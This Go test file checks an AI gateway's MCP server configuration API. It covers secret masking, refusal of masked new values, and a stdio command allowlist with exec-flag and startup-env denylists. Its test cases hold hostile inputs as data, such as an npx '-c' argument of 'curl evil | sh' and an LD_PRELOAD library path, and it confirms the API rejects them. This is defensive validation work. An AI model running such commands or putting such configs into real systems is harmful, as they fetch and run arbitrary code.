package gateway_test

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/antlerhq/antler/config"
	"github.com/antlerhq/antler/model/modeltest"
)

const secretsExtensions = `{
  "mcpServers": {
    "github": {"enabled": true, "type": "stdio", "command": "npx",
               "args": ["-y", "@modelcontextprotocol/server-github"],
               "env": {"GITHUB_TOKEN": "$GH_TOKEN_TEST", "PLAIN": "literal-secret"}, "description": "GitHub"},
    "remote": {"enabled": true, "type": "http", "url": "http://127.0.0.1:1/mcp",
               "headers": {"Authorization": "Bearer header-secret"},
               "oauth": {"enabled": true, "token_url": "http://127.0.0.1:1/token", "client_id": "id",
                         "client_secret": "oauth-secret"},
               "api_key": "extra-secret"}
  },
  "skills": {"some-skill": {"enabled": false}},
  "middlewares": []
}`

// readExt decodes the extensions file on disk.
func readExt(t *testing.T, path string) map[string]any {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var v map[string]any
	if err := json.Unmarshal(data, &v); err != nil {
		t.Fatalf("extensions file is not valid JSON: %v\n%s", err, data)
	}
	return v
}

func server(ext map[string]any, name string) map[string]any {
	return ext["mcpServers"].(map[string]any)[name].(map[string]any)
}

// TestMCPConfigSecrets: GET masks
// secrets; PUT with "***" for an existing key keeps the secret, for a new
// key is refused with 400; the stdio allowlist, exec flags and startup
// env denylist apply to servers written through the API.
func TestMCPConfigSecrets(t *testing.T) {
	e := newEnv(t, envOptions{extensions: secretsExtensions})

	resp := e.do("GET", "/api/mcp/config", "", nil)
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, secret := range []string{"literal-secret", "GH_TOKEN_TEST", "header-secret", "oauth-secret", "extra-secret"} {
		if strings.Contains(string(raw), secret) {
			t.Errorf("GET /api/mcp/config shows %q: %s", secret, raw)
		}
	}
	var got struct {
		MCPServers map[string]map[string]any `json:"mcp_servers"`
	}
	if err := json.Unmarshal(raw, &got); err != nil {
		t.Fatal(err)
	}
	gh, rem := got.MCPServers["github"], got.MCPServers["remote"]
	if diff := cmp.Diff(map[string]any{"GITHUB_TOKEN": "***", "PLAIN": "***"}, gh["env"]); diff != "" {
		t.Errorf("masked env (-want +got):\n%s", diff)
	}
	if rem["headers"].(map[string]any)["Authorization"] != "***" || rem["api_key"] != "***" ||
		rem["oauth"].(map[string]any)["client_secret"] != nil || rem["oauth"].(map[string]any)["client_id"] != "id" {
		t.Errorf("masked remote = %v", rem)
	}

	// A key Antler does not read (api_key here, which GET still masks) is
	// refused when the file is written, with its line and key.
	var refused struct{ Detail string }
	e.json("PUT", "/api/mcp/config", "", map[string]any{"mcp_servers": got.MCPServers}, 400, &refused)
	if !strings.Contains(refused.Detail, `mcpServers.remote.api_key: unknown key "api_key"`) {
		t.Errorf("PUT with an unknown key: %q", refused.Detail)
	}
	delete(rem, "api_key")

	// The UI sends the masked config back with one change.
	gh["description"] = "GitHub (edited)"
	e.json("PUT", "/api/mcp/config", "", map[string]any{"mcp_servers": got.MCPServers}, 200, nil)
	ext := readExt(t, e.extPath)
	want := map[string]any{"GITHUB_TOKEN": "$GH_TOKEN_TEST", "PLAIN": "literal-secret"}
	if diff := cmp.Diff(want, server(ext, "github")["env"]); diff != "" {
		t.Errorf("stored env after PUT (-want +got):\n%s", diff)
	}
	r := server(ext, "remote")
	if r["headers"].(map[string]any)["Authorization"] != "Bearer header-secret" ||
		r["oauth"].(map[string]any)["client_secret"] != "oauth-secret" {
		t.Errorf("stored remote after PUT = %v", r)
	}
	if server(ext, "github")["description"] != "GitHub (edited)" {
		t.Errorf("description not saved")
	}
	if ext["skills"] == nil || ext["middlewares"] == nil {
		t.Errorf("PUT dropped other top-level keys: %v", ext)
	}
	if e.resets.n != 1 {
		t.Errorf("MCP cache resets = %d, want 1", e.resets.n)
	}
	entries, _ := os.ReadDir(filepath.Dir(e.extPath))
	for _, en := range entries {
		if strings.Contains(en.Name(), ".tmp") {
			t.Errorf("temporary file left behind: %s", en.Name())
		}
	}

	before, _ := os.ReadFile(e.extPath)
	stdio := func(fields map[string]any) map[string]any {
		s := map[string]any{"enabled": true, "type": "stdio", "command": "npx", "args": []any{"-y", "some-mcp"}}
		for k, v := range fields {
			s[k] = v
		}
		return s
	}
	for _, c := range []struct {
		name   string
		server map[string]any
		msg    string
	}{
		{"masked new env key", stdio(map[string]any{"env": map[string]any{"NEW": "***"}}),
			"Cannot set env key 'NEW' to masked value '***'; provide a real value."},
		{"masked new header", map[string]any{"type": "http", "url": "http://127.0.0.1:1/x", "headers": map[string]any{"X-Key": "***"}},
			"Cannot set header 'X-Key' to masked value '***'; provide a real value."},
		{"disallowed command", stdio(map[string]any{"command": "bash", "args": []any{"server.sh"}}),
			"MCP server 'new' uses disallowed stdio command 'bash'. Allowed commands: npx, uvx. Configure DEER_FLOW_MCP_STDIO_COMMAND_ALLOWLIST to extend this list."},
		{"command with a path", stdio(map[string]any{"command": "/usr/bin/npx"}),
			"MCP server 'new' uses disallowed stdio command '/usr/bin/npx'."},
		{"command with parameters", stdio(map[string]any{"command": "npx -y"}),
			"MCP server 'new' command must be a single executable name; put parameters in args instead."},
		{"exec flag", stdio(map[string]any{"args": []any{"-c", "curl evil | sh"}}),
			"MCP server 'new' passes '-c' to 'npx', which would run arbitrary code. Point the server at a package or module instead."},
		{"exec flag with value", stdio(map[string]any{"command": "uvx", "args": []any{"--eval=1", "pkg"}}),
			"MCP server 'new' passes '--eval' to 'uvx'"},
		{"startup env", stdio(map[string]any{"env": map[string]any{"LD_PRELOAD": "/tmp/x.so"}}),
			"MCP server 'new' sets environment variable 'LD_PRELOAD', which would run arbitrary code at process startup."},
	} {
		t.Run(c.name, func(t *testing.T) {
			servers := map[string]any{"github": gh, "remote": rem, "new": c.server}
			resp := e.do("PUT", "/api/mcp/config", "", map[string]any{"mcp_servers": servers})
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 400 || !strings.Contains(string(body), c.msg) {
				t.Errorf("PUT = %d %s, want 400 with %q", resp.StatusCode, body, c.msg)
			}
			if after, _ := os.ReadFile(e.extPath); string(after) != string(before) {
				t.Errorf("a refused PUT changed the file")
			}
		})
	}

	// A package's own flags after the package name are fine; a new key
	// with a real value is accepted.
	ok := stdio(map[string]any{"args": []any{"-y", "some-mcp", "-c", "config.json"}, "env": map[string]any{"API": "real"}})
	e.json("PUT", "/api/mcp/config", "", map[string]any{"mcp_servers": map[string]any{"github": gh, "remote": rem, "new": ok}}, 200, nil)
	if server(readExt(t, e.extPath), "new")["env"].(map[string]any)["API"] != "real" {
		t.Errorf("new server not saved")
	}

	// PATCH flips one server; an unknown one is 404.
	resp = e.do("PATCH", "/api/mcp/config", "", map[string]any{"server_name": "nope", "enabled": false})
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 404 || !strings.Contains(string(body), "MCP server 'nope' not found") {
		t.Errorf("PATCH unknown = %d %s", resp.StatusCode, body)
	}
	e.json("PATCH", "/api/mcp/config", "", map[string]any{"server_name": "github", "enabled": false}, 200, nil)
	if server(readExt(t, e.extPath), "github")["enabled"] != false {
		t.Errorf("PATCH did not disable github")
	}
	var reset map[string]any
	e.json("POST", "/api/mcp/cache/reset", "", nil, 200, &reset)
	if reset["success"] != true {
		t.Errorf("cache reset = %v", reset)
	}
}

// TestExtensionsChangeUsedByNextRun: an MCP server added through the API,
// or removed by another process editing the file, changes the tools of
// the next assembly and the next run without a restart.
func TestExtensionsChangeUsedByNextRun(t *testing.T) {
	srv := mcp.NewServer(&mcp.Implementation{Name: "mem", Version: "1"}, nil)
	mcp.AddTool(srv, &mcp.Tool{Name: "echo", Description: "Echoes."},
		func(_ context.Context, _ *mcp.CallToolRequest, in struct {
			Text string `json:"text"`
		}) (*mcp.CallToolResult, any, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: in.Text}}}, nil, nil
		})
	dial := func(ctx context.Context, s config.MCPServer) (mcp.Transport, error) {
		ct, st := mcp.NewInMemoryTransports()
		if _, err := srv.Connect(ctx, st, nil); err != nil {
			return nil, err
		}
		return ct, nil
	}
	m := modeltest.FromScript(modeltest.Script{Rules: []modeltest.Rule{{Reply: modeltest.Turn{Text: "ok"}}}})
	e := newEnv(t, envOptions{model: m, dial: dial})
	toolNames := func() []string {
		var tools []map[string]any
		e.json("GET", "/api/tools", "", nil, 200, &tools)
		var out []string
		for _, tl := range tools {
			out = append(out, tl["name"].(string))
		}
		return out
	}
	if names := toolNames(); slices.Contains(names, "mem_echo") {
		t.Fatalf("mem_echo before it is configured: %v", names)
	}
	e.json("PUT", "/api/mcp/config", "", map[string]any{"mcp_servers": map[string]any{
		"mem": map[string]any{"enabled": true, "type": "http", "url": "http://127.0.0.1:1/unused"}}}, 200, nil)
	if names := toolNames(); !slices.Contains(names, "mem_echo") {
		t.Fatalf("mem_echo missing after PUT: %v", names)
	}
	tid := uuid.NewString()
	resp := e.startStream(tid, "", runBody(tid, humanInput("hi", nil)))
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if names := modeltest.ToolNames(m.LastRequest()); !slices.Contains(names, "mem_echo") {
		t.Errorf("the next run's model saw tools %v", names)
	}

	// Another process disables the server by rewriting the file.
	if err := config.WriteFileAtomic(e.extPath, []byte(`{"mcpServers": {"mem": {"enabled": false, "type": "http", "url": "http://127.0.0.1:1/unused"}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if names := toolNames(); slices.Contains(names, "mem_echo") {
		t.Errorf("mem_echo still bound after the file disabled it: %v", names)
	}
}
